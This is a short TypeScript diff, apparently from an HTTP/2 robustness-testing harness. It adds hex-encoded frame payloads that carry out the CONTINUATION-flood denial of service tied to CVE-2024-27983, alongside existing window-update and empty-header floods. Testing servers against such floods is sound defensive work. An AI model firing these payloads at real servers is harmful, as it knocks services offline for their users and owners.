@@ -74,8 +74,19 @@ const FLOODS: Readonly<Record<string, (target: Target) => Promise<string>>> = {
   "window-updates": (target) => floodFrames(target, Buffer.from("00000408000000000000000001", "hex")),
   "empty-headers": (target) =>
     floodFrames(target, Buffer.from("000000090000000001", "hex"), Buffer.from("000001010000000001" + "83", "hex")),
+  // A block of headers that never ends (CVE-2024-27983).
+  continuations: (target) =>
+    floodFrames(target, continuation(Buffer.from("00016101620001630164", "hex")), OPEN_HEADERS),
+  "empty-continuations": (target) => floodFrames(target, continuation(Buffer.alloc(0)), OPEN_HEADERS),
   connections: floodConnections,
 };
+
+/** Headers whose block is to go on. */
+const OPEN_HEADERS = Buffer.from("00000101000000000183", "hex");
+
+function continuation(block: Buffer): Buffer<ArrayBuffer> {
+  return Buffer.concat([Buffer.from([0, 0, block.length, 9, 0, 0, 0, 0, 1]), block]);
+}
 
 /** Connections that say little, or too much. */
 export const CONNECTION_ROWS: readonly AttackRow[] = [
